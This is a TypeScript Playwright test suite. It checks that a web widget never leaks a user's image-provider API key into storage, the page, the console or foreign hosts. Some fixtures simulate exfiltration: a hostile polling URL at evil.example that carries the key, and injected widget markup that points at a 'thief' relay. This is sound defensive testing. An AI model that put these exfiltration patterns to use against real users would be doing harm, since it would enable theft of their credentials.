import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { onePixel } from '../contract/recorded/picture.js';
import { launchChromium } from '../support/chromium.js';
import { startFaultServer, type Answer, type FaultServer } from '../support/fault-server.js';
import { startPage } from '../support/provider-page.js';

const key = 'canary-1f6c2b7e-9d04-4ab5-8c11-5e3f7a90d2c8';

/** What Black Forest Labs answers, and what a server might that repeats everything it was told. */
function good({ method, target }: { method: string; target: string }): Answer {
  return method === 'POST'
    ? { json: { id: '7a1', polling_url: 'https://api.eu2.bfl.ai/v1/get_result?id=7a1', cost: 3 } }
    : target.endsWith('/credits')
      ? { json: { credits: 500 } }
      : target.includes('get_result')
        ? {
            json: {
              id: '7a1',
              status: 'Ready',
              result: { sample: 'https://delivery-eu1.bfl.ai/results/a.png' },
            },
          }
        : { headers: { 'content-type': 'image/png' }, body: Buffer.from(onePixel, 'base64') };
}
const echo = {
  detail: `Invalid key ${key}. You sent x-key: ${key}`,
  error: { message: `bad ${key}` },
};
function paid(answer: Answer): typeof good {
  return (call) => (call.method === 'POST' ? answer : good(call));
}

const visits: readonly (readonly [string, typeof good, string])[] = [
  ['everything goes well', good, 'done'],
  ['the provider repeats the key in a 401', paid({ status: 401, json: echo }), 'session-refused'],
  [
    'the provider repeats the key in a 422',
    paid({ status: 422, json: { detail: [{ msg: `x-key ${key} is bad`, loc: [key] }] } }),
    'invalid-input',
  ],
  ['the provider repeats the key in a 500', paid({ status: 500, json: echo }), 'provider-failed'],
  ['the answer breaks off', paid({ fault: 'half-body' }), 'unreadable-reply'],
  [
    'the answer leads to a thief',
    paid({ json: { id: '1', polling_url: `https://evil.example/?${key}` } }),
    'unreadable-reply',
  ],
  [
    'the task ends with the key in its words',
    (call) =>
      call.target.includes('get_result')
        ? { json: { status: 'Error', details: { message: `key ${key}` } } }
        : good(call),
    'provider-failed',
  ],
];

describe('a reader’s key in a page that looks everywhere', () => {
  let browser: Browser;
  let server: FaultServer;
  before(async () => {
    browser = await launchChromium();
    server = await startFaultServer();
  });
  after(async () => {
    await browser.close();
    await server.close();
  });

  const withWidget = async (
    answer: typeof good,
    work: (page: Page, requests: string[], printed: string[]) => Promise<void>,
  ): Promise<void> => {
    server.log.length = 0;
    server.answer = ({ method, headers }) =>
      answer({ method, target: String(headers['x-target-url']) });
    const host = await startPage(
      'secrets-page.entry.ts',
      `<user-pays-image id="widget" lang="en" provider="bfl" model="flux-2-pro" prompt="a fox" relay="${server.origin}/relay"></user-pays-image>`,
    );
    const context = await browser.newContext();
    const page = await context.newPage();
    const [requests, printed]: [string[], string[]] = [[], []];
    page.on('request', (request) => {
      requests.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`);
    });
    page.on('console', (message) => {
      printed.push(message.text());
    });
    page.on('pageerror', (error) => {
      printed.push(String(error.stack));
    });
    try {
      await page.goto(host.url);
      await work(page, requests, printed);
    } finally {
      await context.close();
      await host.close();
    }
  };
  const giveKey = async (page: Page, keep = 'memory'): Promise<void> => {
    await page.locator('#widget').hover();
    if ((await page.locator('input[name="key"]').count()) === 0)
      await page.locator('[part~="generate"]').click();
    await page.locator('input[name="key"]').fill(key);
    await page.locator('select[name="keep"]').selectOption(keep);
    await page.locator('[part~="key"] button').click();
    await page.waitForFunction(
      () =>
        (document.querySelector('#widget') as unknown as { account: { status: string } }).account
          .status === 'signed-in',
    );
  };
  const buy = async (page: Page): Promise<string> => {
    const end = page.evaluate(
      () =>
        new Promise<string>((done) => {
          document.addEventListener('user-pays-done', () => {
            done('done');
          });
          document.addEventListener('user-pays-error', (event) => {
            done((event as CustomEvent<{ error: { code: string } }>).detail.error.code);
          });
        }),
    );
    await page.locator('#widget [part~="generate"]').click();
    return end;
  };
  const everywhere = async (page: Page): Promise<string> =>
    [
      ...(await page.evaluate<string[]>('texts()')),
      ...(await page.evaluate<string[]>('heard')),
      ...(await page.context().cookies()).map(({ value }) => value),
    ].join('\n');

  for (const [title, answer, ending] of visits) {
    it(`is in no storage, tree, event, address or console when ${title}`, async () => {
      await withWidget(answer, async (page, requests, printed) => {
        await giveKey(page);
        assert.equal(await buy(page), ending);
        const seen = await everywhere(page);
        assert.ok(
          seen.includes('a fox') && seen.includes('user-pays-state'),
          'the search finds what is there',
        );
        for (const text of [seen, ...requests, ...printed])
          assert.ok(!text.includes(key) && !text.includes(key.slice(7)), text.slice(0, 300));
        assert.equal(
          server.log.filter(({ method, headers }) => method === 'POST' && headers['x-key'] === key)
            .length,
          1,
          'and reached the provider once, in a header',
        );
        const elsewhere = server.log.filter(
          ({ headers }) =>
            headers['x-key'] !== undefined &&
            !/^https:\/\/[a-z0-9.]+\.bfl\.ai\//.test(String(headers['x-target-url'])),
        );
        assert.deepEqual(elsewhere, []);
        const pictures = server.log.filter(({ headers }) =>
          String(headers['x-target-url']).startsWith('https://delivery'),
        );
        assert.ok(
          pictures.every(({ headers }) => headers['x-key'] === undefined),
          'a picture is fetched without it',
        );
      });
    });
  }

  it('is asked for with a word about who will see it pass by', async () => {
    await withWidget(good, async (page) => {
      await page.locator('#widget').hover();
      const { host } = new URL(server.origin);
      assert.equal(
        await page.locator('#widget #key-warning').innerText(),
        `Paste a key only on a site you trust: any script on this page could read it. We send it to Black Forest Labs through this page’s relay, ${host}.`,
      );
      await page.locator('#widget').evaluate((element) => {
        element.removeAttribute('relay');
      });
      await page.locator('#widget #key-warning', { hasText: /nowhere else\.\s*$/ }).waitFor();
    });
  });

  it('is in the one place the reader chose, and gone from it when they sign out', async () => {
    await withWidget(good, async (page) => {
      await giveKey(page, 'device');
      const places = (): Promise<[string, number][]> =>
        page.evaluate(
          (secret) =>
            [localStorage, sessionStorage].map((store, index): [string, number] => [
              index === 0 ? 'device' : 'tab',
              Object.values(store as unknown as Record<string, string>).filter((value) =>
                value.includes(secret),
              ).length,
            ]),
          key,
        );
      assert.deepEqual(await places(), [
        ['device', 1],
        ['tab', 0],
      ]);
      await page.evaluate(() => {
        (document.querySelector('#widget') as unknown as { signOut(): void }).signOut();
      });
      assert.deepEqual(await places(), [
        ['device', 0],
        ['tab', 0],
      ]);
    });
  });

  it('goes through no relay but the one it was entered for, whatever markup slips into the page', async () => {
    const thief = await startFaultServer();
    thief.answer = () => ({ json: { credits: 1 } });
    await withWidget(good, async (page) => {
      await giveKey(page, 'device');
      for (const reloaded of [false, true]) {
        if (reloaded) await page.reload();
        await page.evaluate((relay) => {
          document.body.insertAdjacentHTML(
            'afterbegin',
            `<user-pays-image id="slipped" lang="en" provider="bfl" model="flux-2-pro" prompt="a fox" relay="${relay}"></user-pays-image>`,
          );
        }, `${thief.origin}/relay`);
        await page.locator('#slipped').hover();
        await page.locator('#slipped input[name="key"]').waitFor();
        await page.locator('#slipped [part~="generate"]', { hasText: 'Add your key' }).click();
        await page
          .locator('#slipped [part~="error"]', { hasText: 'needs a key of yours' })
          .waitFor();
        assert.match(
          await page.locator('#widget [part~="generate"]').innerText(),
          /^Generate · (≈\s)?\$0\.030$/,
          'where it was entered, it is',
        );
      }
      assert.equal(await buy(page), 'done');
    });
    assert.deepEqual(thief.log, []);
    await thief.close();
  });

  it('is forgotten after a 401', async () => {
    await withWidget(paid({ status: 401, json: echo }), async (page) => {
      await giveKey(page, 'device');
      assert.equal(await buy(page), 'session-refused');
      await page.waitForFunction(
        () =>
          (document.querySelector('#widget') as unknown as { account: { status: string } }).account
            .status === 'signed-out',
      );
      assert.ok(!(await everywhere(page)).includes(key));
    });
  });
});
